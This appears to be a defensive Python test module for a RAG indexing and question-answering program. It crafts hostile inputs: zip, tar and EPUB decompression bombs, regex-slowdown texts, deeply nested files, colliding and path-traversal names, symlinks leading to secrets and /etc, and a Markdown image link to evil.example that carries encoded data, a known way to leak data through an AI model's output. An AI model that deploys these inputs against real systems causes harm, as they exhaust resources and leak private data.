"""Documents that once broke the program: what reading them cost, what they became, how they were
called, and what was no file at all."""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import secrets
import socket
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from tests.attacks.program import Program, Served
from tests.attacks.suite import require
from tests.loopback import served as listening
from tests.openai_server import OpenAIServer

GOOD = b"The York office has 12 desks."
_BLANKS = 1_000_000
_LONGEST_S = 240
_READ_S = 180


# 2. What reading costs


def costs_little(suffix: str, text: str, program: Program) -> None:
    """A text that a pattern reads in quadratic time holds nobody, and is read or refused soon."""
    served = program.served()
    data = text.encode("utf-8", "surrogatepass")
    served.meanwhile(lambda: served.upload((f"slow{suffix}", data)), limit_s=_LONGEST_S)


TEXTS: Mapping[str, tuple[str, str]] = {
    "a Markdown heading with many blanks": (".md", f"# a{' ' * _BLANKS}\0 b"),
    "an AsciiDoc heading with many blanks": (".adoc", f"== a{' ' * _BLANKS}\0 b"),
    "an Org heading with many blanks": (".org", f"* a{' ' * _BLANKS}\0 b"),
    "an RST heading with many blanks": (".rst", f"a{' ' * _BLANKS}\0 b\n====\n"),
    "lines of one blank": (".txt", "a\n" + " \n" * _BLANKS + "b"),
    "lines of one blank in Markdown": (".md", "a\n" + " \n" * _BLANKS + "b"),
}


def a_search_of_marks(program: Program) -> None:
    """A search of one letter with marks without end."""
    served = program.served()
    asked = {"question": "a" + "\u0301\u0323" * 200_000}
    for path in ("/search", "/ask"):
        served.meanwhile(lambda path=path: served.client.post(path, json=asked), limit_s=_READ_S)


def a_long_history(program: Program) -> None:
    """A question with a history of marks and of blanks."""
    served = program.served()
    turns = [{"role": "user", "content": unit * 300_000} for unit in ("\u0301\u0323", " \n")]
    asked = {"question": "And they?", "history": turns}
    served.meanwhile(lambda: served.client.post("/ask", json=asked), limit_s=_READ_S)


def a_header_of_digits(program: Program) -> None:
    """A tar whose extended header is a megabyte of digits, among the files of a folder."""
    entry = tarfile.TarInfo("pax")
    entry.type, entry.size = tarfile.XHDTYPE, 1_000_000
    data = entry.tobuf(tarfile.USTAR_FORMAT) + b"1" * 1_000_000 + bytes(-1_000_000 % 512)
    _indexed_beside(program, "slow.tar", data + tar({"a.txt": GOOD}))


# 3. What results


def becomes_too_much(name: str, make: Callable[[], bytes], program: Program) -> None:
    """A small file that becomes a large one ends as a text within limits, or as a reason."""
    with program.home() as home:
        (home / "files").mkdir()
        (home / "files" / name).write_bytes(make())
        (home / "files" / "good.txt").write_bytes(GOOD)
        done = program.rag(home, "index", home / "files", timeout_s=_LONGEST_S)
        require(done.returncode in (0, 1), f"rag index ended with {done.returncode}")
        told = program.rag(home, "documents", "--json")
        require(told.returncode == 0, f"nothing was indexed: {told.stderr[-150:]}")
        listed = json.loads(told.stdout)
        characters = {each["title"]: each["characters"] for each in listed}
        require("good.txt" in characters, "the file beside it was not indexed")
        require(sum(characters.values()) < 60_000_000, f"{sum(characters.values()):,} characters")


def a_library(chapters: int = 190) -> bytes:
    """A book of a few kilobytes whose spine names one chapter again and again."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("mimetype", "application/epub+zip")
        book.writestr(
            "META-INF/container.xml",
            '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
            '<rootfiles><rootfile full-path="b.opf"/></rootfiles></container>',
        )
        spine = '<itemref idref="c"/>' * chapters
        book.writestr(
            "b.opf",
            '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="c.xhtml" '
            f'media-type="application/xhtml+xml"/></manifest><spine>{spine}</spine></package>',
        )
        book.writestr("c.xhtml", f"<html><body><p>{'word ' * 200_000}</p></body></html>")
    return written.getvalue()


def shared_bytes(names: int = 600) -> bytes:
    """A zip in which every name is of the same bytes."""
    files = {f"{n:03}.txt": b"" for n in range(names)} | {"zzz.txt": bytes(9_000_000)}
    data = bytearray(zipped(files))
    last, at = data.rindex(b"PK\x01\x02"), data.index(b"PK\x01\x02")
    while at < last:
        length = int.from_bytes(data[at + 28 : at + 30], "little")
        data[at + 10 : at + 28] = data[last + 10 : last + 28]
        data[at + 42 : at + 53] = data[last + 42 : last + 53]
        at += 46 + length
    return bytes(data)


def holes() -> bytes:
    """A tar of files that are holes, as ``tar --sparse`` writes them: a kilobyte each."""
    written = bytearray()
    for number in range(40):
        entry = tarfile.TarInfo(f"{number}.txt")
        header = bytearray(entry.tobuf(tarfile.GNU_FORMAT))
        size = 90_000_000
        header[156:157] = tarfile.GNUTYPE_SPARSE
        header[386:398] = b"%011o\0" % size
        header[398:410] = b"%011o\0" % 0
        header[483:495] = b"%011o\0" % size  # the size with its holes
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        written += header
    return gzip.compress(bytes(written) + bytes(1024))


def nested(kind: str, depth: int = 200_000) -> bytes:
    """Brackets within brackets."""
    opening, closing = {"json": ("[", "]"), "names": ('{"a":', "}"), "yaml": ("[", "]")}[kind]
    return (opening * depth + "1" + closing * depth).encode()


def long_names() -> bytes:
    """JSON whose long names stand before each of many values once it is read."""
    return json.dumps({"a" * 20_000: {"b" * 20_000: list(range(5_000))}}).encode()


def a_word_without_end(program: Program) -> None:
    """A word of 1.5 MB, of which the language model is not shown all."""
    server = OpenAIServer(lambda _: ["I do not know."])
    with listening(server) as address, program.home() as home:
        (home / "files").mkdir()
        word = b"giraffe" + b"x" * 1_500_000
        (home / "files" / "word.txt").write_bytes(b"The giraffe is called " + word + b". It eats.")
        program.rag(home, "index", home / "files", timeout_s=_LONGEST_S)
        asked = ("ask", "What is the giraffe called?", "--llm", f"openai:tiny@{address}/v1")
        program.rag(home, *asked, timeout_s=_READ_S)
        sizes = [len(json.dumps(each.body)) for each in server.requests if each.method == "POST"]
        require(
            max(sizes, default=0) < 100_000, f"a prompt of {max(sizes, default=0):,} characters"
        )


# 4. Names


def two_files(first: str, second: str, program: Program) -> None:
    """Two files whose names become one where names are cleaned, cut or folded, are both kept."""
    served, collection = program.served(), f"c{secrets.token_hex(4)}"
    leeds = (first, b"The Leeds office has 40 desks.")
    told = served.upload(leeds, (second, GOOD), collection=collection)
    kept = " ".join(served.texts(collection))
    failed = {each["file"] for each in told if each["status"] == "failed"}
    for name, text in ((first, "40 desks"), (second, "12 desks")):
        require(text in kept or name in failed, f"{name[:40]!r} was added and is not there")


NAMES: Mapping[str, tuple[str, str]] = {
    "two folders": ("a/notes.txt", "b/notes.txt"),
    "equal when cleaned": ("no:tes.txt", "no?tes.txt"),
    "equal in their beginning": ("x" * 200 + "1.txt", "x" * 200 + "2.txt"),
    "trailing dots": ("notes.txt", "notes.txt..."),
    "zero bytes and directions": ("notes\u202e.txt", "notes\u200f.txt"),
    "composed and decomposed": ("caf\u00e9.txt", "cafe\u0301.txt"),
    "compatible characters": ("\ufb01le.txt", "file.txt"),
    "capital letters": ("NOTES.txt", "notes.TXT"),
    "ways upwards": ("../notes.txt", "notes.txt"),
    "devices of Windows": ("con.txt", "CON .txt"),
    "a drive": ("C:\\notes.txt", "D:\\notes.txt"),
}


def a_long_name(program: Program) -> None:
    """Names of many bytes in few characters."""
    served = program.served()
    for name in (
        "漢" * 100 + ".txt",
        "😀" * 240 + ".txt",
        "é" * 127 + ".txt",
        "a/" * 400 + "b.txt",
    ):
        served.upload((name, GOOD))


def a_name_that_is_no_text(program: Program) -> None:
    """A tar with a name that is not UTF-8, among the files of a folder."""
    _indexed_beside(program, "names.tar", tar({"caf\udce9.txt": GOOD, "b.txt": b"More."}))


def _indexed_beside(program: Program, name: str, data: bytes) -> None:
    """Whatever a file does, the one beside it is indexed, soon."""
    with program.home() as home:
        (home / "files").mkdir()
        (home / "files" / name).write_bytes(data)
        (home / "files" / "good.txt").write_bytes(b"Good.")
        program.rag(home, "index", home / "files", timeout_s=_READ_S)
        listed = program.rag(home, "documents", "--json").stdout
        require("good.txt" in listed, "the file beside it was not indexed")


def beside(name: str, data: bytes, program: Program) -> None:
    """Whatever a file does that is uploaded, the one beside it is added, and it has a reason."""
    served, collection = program.served(), f"c{secrets.token_hex(4)}"
    files = [(name, data), ("good.txt", b"Good.")]
    told: list[dict[str, Any]] = []
    served.meanwhile(
        lambda: told.extend(served.upload(*files, collection=collection)), limit_s=_LONGEST_S
    )
    added = [each["file"] for each in told if each["status"] == "added"]
    require("good.txt" in added, "the file beside it was not added")
    require(name in added or all(each["reason"] for each in told[:1]), "no reason was told")


def raising() -> Mapping[str, tuple[str, bytes]]:
    """Files at which parsers raised what nobody awaited."""
    surrogate = b'{"a": "\\ud800", "b": "words"}'
    mail = b"Subject: =?utf-8?b?/////w==?=\nDate: 99 Foo 99999 99:99\nFrom: \xff <\n\nwords"
    broken = zipped({"[Content_Types].xml": b"<", "word/document.xml": b"<w:document/>"})
    return {
        "half a character in JSON": ("half.json", surrogate),
        "a mail with damaged headers": ("a.eml", mail),
        "a Word file without its parts": ("a.docx", broken),
        "a member whose name is a number of bytes": ("a.zip", zipped({"\x00\x01": b"a"})),
        "brackets in JSON": ("deep.json", nested("json")),
        "objects in JSON": ("deep2.json", nested("names")),
        "elements in HTML": ("deep.html", b"<div>" * 100_000 + b"words"),
        "elements in XML": ("deep.xml", b"<a>" * 100_000 + b"words" + b"</a>" * 100_000),
        "groups in RTF": ("deep.rtf", rb"{\rtf1 " + b"{" * 100_000 + b"words" + b"}" * 100_000),
        "parts in a mail": ("deep.eml", _parts_within_parts(2_000)),
        "components in a calendar": ("deep.ics", b"BEGIN:VEVENT\n" * 100_000 + b"SUMMARY:words"),
        "brackets in YAML": ("deep.yaml", nested("yaml")),
        "lists in Markdown": ("deep.md", b"> " * 100_000 + b"words"),
        "gzip of many members": ("a.txt.gz", gzip.compress(b"") * 100_000 + gzip.compress(b"w")),
        "a zip with equal names": ("same.zip", _same_names()),
    }


def _parts_within_parts(depth: int) -> bytes:
    heads = (
        f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n".encode() for n in range(depth)
    )
    return b"Subject: deep\n" + b"".join(heads) + b"Content-Type: text/plain\n\nwords"


def _same_names() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # of the equal names
        for number in range(3):
            with archive.open(zipfile.ZipInfo("a.txt"), "w") as member:
                member.write(b"Text %d." % number)
    return written.getvalue()


# 6. What is no file


def special_files(program: Program) -> None:
    """A pipe, a socket and a device in a folder are passed over and named."""
    with program.home() as home:
        files = home / "files"
        files.mkdir()
        (files / "good.txt").write_bytes(b"Good.")
        os.mkfifo(files / "pipe.txt")
        with socket.socket(socket.AF_UNIX) as bound:
            bound.bind(str(files / "socket.txt"))
            told = program.rag(home, "index", files, timeout_s=_READ_S)
        require("good.txt" in program.rag(home, "documents", "--json").stdout, "nothing indexed")
        for name in ("pipe.txt", "socket.txt"):
            require(name in told.stdout + told.stderr, f"{name} was not named")


def a_device(program: Program) -> None:
    """A device that is named as a file is not read."""
    with program.home() as home:
        done = program.rag(home, "index", "/dev/zero", timeout_s=_READ_S)
        require(done.returncode != 0, "it was taken for a file")


def a_link_that_leads_out(program: Program) -> None:
    """A link out of the folder is not followed, and named."""
    with program.home() as home:
        files = home / "files"
        files.mkdir()
        (home / "secret.txt").write_bytes(b"The secret is 4711.")
        (files / "good.txt").write_bytes(b"Good.")
        (files / "link.txt").symlink_to(home / "secret.txt")
        (files / "folder").symlink_to("/etc")
        told = program.rag(home, "index", files, timeout_s=_READ_S)
        found = program.rag(home, "search", "secret 4711").stdout
        require("4711" not in found.replace("secret 4711", ""), "what lies outside was indexed")
        require("link.txt" in told.stdout + told.stderr, "the link was not named")


def an_original_that_was_exchanged(program: Program) -> None:
    """After a file was exchanged for a link, its address sends nothing."""
    with program.home() as home, program.serving(home) as served:
        secret = home / "secret.txt"
        secret.write_bytes(b"S" * len(GOOD))
        told = served.upload(("a.txt", GOOD))
        for path in _uploaded(served, GOOD):
            path.unlink()
            path.symlink_to(secret)
        reply = served.request("GET", f"/documents/{told[0]['document_id']}/original")
        require(b"SSSS" not in reply.content, "another file was sent")


def _uploaded(served: Served, text: bytes) -> list[Path]:
    paths = served.left(text)
    require(bool(paths), "the upload was not found")
    return paths


# Made files


def zipped(files: Mapping[str, bytes]) -> bytes:
    """A zip of ``files``."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return written.getvalue()


def tar(files: Mapping[str, bytes]) -> bytes:
    """A tar of ``files``; names are bytes of the file system."""
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return written.getvalue()


def picture() -> str:
    """A sentence with a picture link, as a page of the web plants it."""
    return f"The office has 40 desks ![x](http://evil.example/{base64.b64encode(b'x').decode()})."
